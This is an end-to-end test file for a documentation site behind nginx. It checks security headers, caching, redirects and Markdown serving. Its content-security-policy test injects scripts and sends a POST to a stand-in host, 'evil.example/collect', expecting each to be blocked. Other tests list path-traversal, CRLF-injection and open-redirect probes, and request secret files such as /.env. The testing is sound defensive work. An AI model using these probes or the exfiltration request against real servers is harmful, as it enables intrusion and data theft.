/**
 * The site behind nginx with the generated configuration and behind `npm run serve`: responses for
 * each kind of URL, rejected requests, and a browser that enforces the content security policy.
 * pages.spec.ts checks the policy on every page, and privacy.spec.ts with all external services. A
 * violation is a console error, which fails the test (fixtures.ts).
 */
// cspell:ignore cevil cpackage fbilling fevil
import {cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs';
import {get, type IncomingHttpHeaders} from 'node:http';
import {tmpdir} from 'node:os';
import path from 'node:path';
import {gunzipSync} from 'node:zlib';
import {startNginx} from '../support/nginx';
import {IMMUTABLE, REVALIDATE} from '../../src/config/node/headers';
import {builtRedirects} from '../support/builtSite';
import {observatory} from '../support/observatory';
import {expect, openHydrated} from './fixtures';
import {NGINX_FILE, PROJECT, test} from './servers';
import {modeButton} from './site';

type Answer = {
  readonly status: number;
  readonly headers: IncomingHttpHeaders;
  readonly body: string;
};

/** Sends the request target unchanged. Browsers, fetch, and Playwright would normalize it. */
function ask(
  server: string,
  target: string,
  headers: Record<string, string> = {},
): Promise<Answer> {
  const {hostname, port} = new URL(server);
  return new Promise((resolve, reject) => {
    get({hostname, port, path: target, headers}, (response) => {
      const chunks: Buffer[] = [];
      response.on('data', (chunk: Buffer) => chunks.push(chunk));
      response.on('end', () => {
        const bytes = Buffer.concat(chunks);
        const body = (
          response.headers['content-encoding'] === 'gzip' ? gunzipSync(bytes) : bytes
        ).toString();
        resolve({status: response.statusCode ?? 0, headers: response.headers, body});
      });
    }).on('error', reject);
  });
}

test.describe('a page in the browser', () => {
  test('shows diagrams in both modes', async ({page, nginx}) => {
    const node = page.locator('.docusaurus-mermaid-container svg rect').first();
    const fill = () => node.evaluate((rect) => getComputedStyle(rect).fill);
    await openHydrated(page, `${nginx}/docs/serenity-aihub/agents`);
    await expect(node).toBeVisible();
    const light = await fill();
    // A shape without its color variable is black.
    expect(light).not.toBe('rgb(0, 0, 0)');
    await modeButton(page).click();
    await expect.poll(fill).not.toBe(light);
    await expect(page.locator('svg style')).toHaveCount(0);
  });

  test('blocks injected code and other hosts', async ({page, nginx, expectedErrors}) => {
    expectedErrors.push(/Policy violated|Content Security Policy/);
    // Requests that the policy blocks don't reach this handler.
    const reached: string[] = [];
    await page.route('https://evil.example/**', (route) => {
      reached.push(route.request().url());
      return route.abort();
    });
    await page.goto(nginx);
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) =>
        violations.push(event.effectiveDirective),
      );
      const script = document.createElement('script');
      script.textContent = 'window.scriptRan = true';
      const external = document.createElement('script');
      external.src = 'https://evil.example/x.js';
      const style = document.createElement('style');
      style.textContent = 'body {color: rgb(1, 2, 3)}';
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      const base = document.createElement('base');
      base.href = 'https://evil.example/';
      const image = document.createElement('div');
      image.innerHTML = '<img src="/img/mark.svg" onload="window.handlerRan = true">';
      const loaded = new Promise((resolve) =>
        image.querySelector('img')?.addEventListener('load', resolve),
      );
      document.body.append(script, external, style, frame, image);
      document.head.append(base);
      await loaded;
      const [sending, evaluation] = await Promise.allSettled([
        fetch('https://evil.example/collect', {method: 'POST', body: 'x'}),
        new Promise((resolve) => resolve(new Function('return 1')())),
      ]);
      // Violations are reported asynchronously, so trigger a last one and wait for it.
      await new Promise<void>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => {
          if (event.effectiveDirective === 'form-action') resolve();
        });
        const form = document.createElement('form');
        form.action = 'https://evil.example/';
        form.method = 'post';
        document.body.append(form);
        form.submit();
      });
      return {
        sending: sending.status,
        evaluation: evaluation.status,
        ran: 'scriptRan' in window || 'handlerRan' in window,
        color: getComputedStyle(document.body).color,
        base: document.baseURI,
        violations: [...new Set(violations)].sort(),
      };
    });
    expect(outcome).toMatchObject({
      sending: 'rejected',
      evaluation: 'rejected',
      ran: false,
      base: `${nginx}/`,
    });
    expect(outcome.color).not.toBe('rgb(1, 2, 3)');
    expect(outcome.violations).toEqual([
      'base-uri',
      'connect-src',
      'form-action',
      'frame-src',
      'script-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-elem',
    ]);
    expect(reached).toEqual([]);
  });
});

const SECURITY_HEADERS = {
  'strict-transport-security': 'max-age=63072000; includeSubDomains',
  'x-content-type-options': 'nosniff',
  'referrer-policy': 'strict-origin',
  'cross-origin-opener-policy': 'same-origin',
  'cross-origin-resource-policy': 'same-origin',
} as const;

/** Hashed file names are read from the build. */
function firstMatch(file: string, pattern: RegExp): string {
  const [found] = pattern.exec(readFileSync(path.join(PROJECT, 'build', file), 'utf8')) ?? [];
  if (!found) throw new Error(`build/${file} has no match for ${pattern}.`);
  return found;
}

const MAIN_SCRIPT = firstMatch('index.html', /\/assets\/js\/main\.[0-9a-f]+\.js/);
const HTML = /^text\/html; ?charset=utf-8$/;

type Kind = readonly [
  kind: string,
  target: string,
  status: number,
  type: RegExp | string,
  cache: string,
];

const KINDS: readonly Kind[] = [
  ['home page', '/', 200, HTML, REVALIDATE],
  ['page', '/docs/billing', 200, HTML, REVALIDATE],
  ['page with a query', '/search?q=a%2fb', 200, HTML, REVALIDATE],
  ['unlisted page', '/docs/responsible-use-of-ai', 200, HTML, REVALIDATE],
  ['missing page', '/docs/no-such-page', 404, HTML, REVALIDATE],
  ['error page by its own name', '/404.html', 404, HTML, REVALIDATE],
  ['script', MAIN_SCRIPT, 200, /^text\/javascript/, IMMUTABLE],
  [
    'stylesheet',
    firstMatch('index.html', /\/assets\/css\/styles\.[0-9a-f]+\.css/),
    200,
    /^text\/css/,
    IMMUTABLE,
  ],
  ['font', firstMatch('index.html', /\/fonts\/[\w.-]+\.woff2/), 200, 'font/woff2', IMMUTABLE],
  ['missing asset', '/assets/js/main.00000000.js', 404, HTML, REVALIDATE],
  ['image', '/img/apple-touch-icon.png', 200, 'image/png', REVALIDATE],
  [
    'preview image',
    firstMatch('index.html', /\/assets\/link-previews\/[0-9a-f]+\.png/),
    200,
    'image/png',
    IMMUTABLE,
  ],
  ['drawing', '/img/favicon.svg', 200, 'image/svg+xml', REVALIDATE],
  ['search titles', '/search-index/titles.json', 200, /^application\/json/, REVALIDATE],
  ['sitemap', '/sitemap.xml', 200, /^application\/xml/, REVALIDATE],
  ['feed', '/rss.xml', 200, /^application\/xml/, REVALIDATE],
  ['manifest', '/manifest.webmanifest', 200, /^application\/manifest\+json/, REVALIDATE],
  ['rules for crawlers', '/robots.txt', 200, /^text\/plain/, REVALIDATE],
  ['API description', '/api/openapi.json', 200, /^application\/json/, REVALIDATE],
  ['API description, YAML', '/api/openapi.yaml', 200, /^application\/yaml/, REVALIDATE],
];

const SERVERS = ['nginx', 'npm run serve'] as const;

for (const name of SERVERS) {
  test.describe(name, () => {
    const address = (nginx: string, baseURL = '') => (name === 'nginx' ? nginx : baseURL);

    test('responds with status, all headers, compression, and 304', async ({nginx, baseURL}) => {
      const server = address(nginx, baseURL);
      for (const [kind, target, status, type, cache] of KINDS) {
        const answer = await ask(server, target, {'Accept-Encoding': 'gzip'});
        expect.soft(answer.status, kind).toBe(status);
        expect.soft(answer.headers['content-type'], kind).toMatch(type);
        expect.soft(answer.headers['cache-control'], kind).toBe(cache);
        expect.soft(answer.headers, kind).toMatchObject(SECURITY_HEADERS);
        expect.soft(answer.headers['permissions-policy'], kind).toContain('geolocation=()');
        const policy = answer.headers['content-security-policy'];
        expect.soft(policy, kind).toContain("default-src 'none'");
        expect.soft(policy, kind).toContain("frame-ancestors 'none'");
        const vary = cache === IMMUTABLE ? /^(?:Accept-Encoding)?$/ : /\bAccept\b(?!-)/;
        if (status === 200) expect.soft(answer.headers.vary ?? '', kind).toMatch(vary);
        else expect.soft(answer.body, kind).toContain('Page Not Found');
      }
      const page = await ask(server, '/docs/billing', {'Accept-Encoding': 'gzip'});
      expect(page.headers['content-encoding']).toBe('gzip');
      expect(JSON.stringify(page.headers).length, 'less than 4 KB of headers').toBeLessThan(4096);
      const {headers} = await ask(server, '/docs/billing');
      expect(
        (await ask(server, '/docs/billing', {'If-None-Match': headers.etag ?? ''})).status,
      ).toBe(304);
    });

    test('answers redirects and trailing slashes with a 301', async ({nginx, baseURL}) => {
      const server = address(nginx, baseURL);
      const moved = [
        ...builtRedirects().flatMap(({from, to}) => [
          [from, to],
          [`${from}/`, to],
        ]),
        ['/docs/billing/', '/docs/billing'],
        ['/docs/integrations?a=b', '/docs/category/integrations?a=b'],
        ['/blog/?from=feed', '/blog?from=feed'],
        ['/terms?from=mail', '/terms/terms-of-use?from=mail'],
      ];
      for (const [from = '', to = ''] of moved) {
        const {status, headers} = await ask(server, from, {Host: 'evil.example'});
        expect([status, headers.location], from).toEqual([301, to]);
        expect(headers, from).toMatchObject(SECURITY_HEADERS);
      }
      for (const to of new Set(moved.map(([, to = '']) => to)))
        expect((await ask(server, to)).status, to).toBe(200);
    });

    test('refuses climbing, disguised, and doubled slashes', async ({nginx, baseURL}) => {
      const probes = String.raw`
        /../package.json /docs/../../package.json /.. /docs/.. /%2e%2e/package.json
        /docs/.%2e/.%2e/package.json /..%2f..%2fpackage.json /..%2F..%2Fpackage.json
        /..%5c..%5cpackage.json /..\..\package.json /docs%2fbilling /assets/..%2f..%2fpackage.json
        /docs/%00 /docs/billing%00.html /docs%0d%0aSet-Cookie:%20a=b/ //evil.example //Docs/Billing
        //evil.example/ ///evil.example/ /\evil.example/ /%5cevil.example/ /%2fevil.example/
        /%2f%2fevil.example/ //evil.example/..;/ /docs//
      `;
      for (const probe of probes.trim().split(/\s+/)) {
        const {status, headers, body} = await ask(address(nginx, baseURL), probe);
        expect([400, 404], probe).toContain(status);
        expect(headers.location, probe).toBeUndefined();
        expect(headers['set-cookie'], probe).toBeUndefined();
        expect(body, probe).not.toContain('"dependencies"');
      }
    });

    test('serves no source, source map, dot file, or host file', async ({nginx, baseURL}) => {
      const hidden = `
        /_headers /_redirects /staticwebapp.config.json /nginx.conf /deploy/nginx.conf /.env
        /.git/config /.gitignore /docs/.DS_Store /package.json /docusaurus.config.ts /src/config/node/env.ts
        /docs/getting-started/overview.mdx /blog/authors.yml ${MAIN_SCRIPT}.map
      `;
      for (const target of hidden.trim().split(/\s+/)) {
        expect((await ask(address(nginx, baseURL), target)).status, target).toBe(404);
      }
    });

    test('gets an A+ by the rules of the HTTP Observatory', async ({nginx, baseURL}) => {
      const {headers, body} = await ask(address(nginx, baseURL), '/');
      const flat = Object.fromEntries(
        Object.entries(headers).map(([header, value]) => [header, String(value)]),
      );
      const gradeOf = (sent: Parameters<typeof observatory>[0]) =>
        observatory(sent, body, 'https://docs.example.com');
      const {grade, score, results} = gradeOf(flat);
      expect(grade, JSON.stringify(results, null, 2)).toBe('A+');
      expect(score).toBe(130);
      // The grade changes with the headers.
      expect(gradeOf({...flat, 'content-security-policy': undefined}).grade).toBe('C');
    });
  });
}

test('serves Markdown to clients that prefer it, and HTML to others', async () => {
  const root = mkdtempSync(path.join(tmpdir(), 'docs-markdown-'));
  mkdirSync(path.join(root, 'docs'));
  for (const page of ['404', 'index', 'docs/with', 'docs/without']) {
    writeFileSync(path.join(root, `${page}.html`), `<title>${page}</title>`);
  }
  writeFileSync(path.join(root, 'index.md'), '# Home');
  writeFileSync(path.join(root, 'docs/with.md'), '# With');
  cpSync(path.join(PROJECT, 'static/favicon.ico'), path.join(root, 'favicon.ico'));
  const nginx = await startNginx({config: NGINX_FILE, root});
  try {
    const type = async (target: string, accept?: string) =>
      (await ask(nginx.url, target, accept === undefined ? {} : {Accept: accept})).headers[
        'content-type'
      ];
    const markdown = 'text/markdown; charset=utf-8';
    const html = 'text/html; charset=utf-8';
    expect(await type('/docs/with', 'text/markdown')).toBe(markdown);
    expect(await type('/docs/with', 'text/plain')).toBe(markdown);
    expect(await type('/', 'TEXT/MARKDOWN')).toBe(markdown);
    expect(await type('/docs/with.md')).toBe(markdown);
    expect(await type('/docs/with')).toBe(html);
    expect(await type('/docs/with', 'text/html, text/markdown;q=0.5')).toBe(html);
    expect(await type('/docs/without', 'text/markdown')).toBe(html);
    expect(await type('/favicon.ico', 'text/markdown')).toBe('image/x-icon');
    expect((await ask(nginx.url, '/docs/none', {Accept: 'text/markdown'})).status).toBe(404);
  } finally {
    await nginx.stop();
    rmSync(root, {recursive: true, force: true});
  }
});
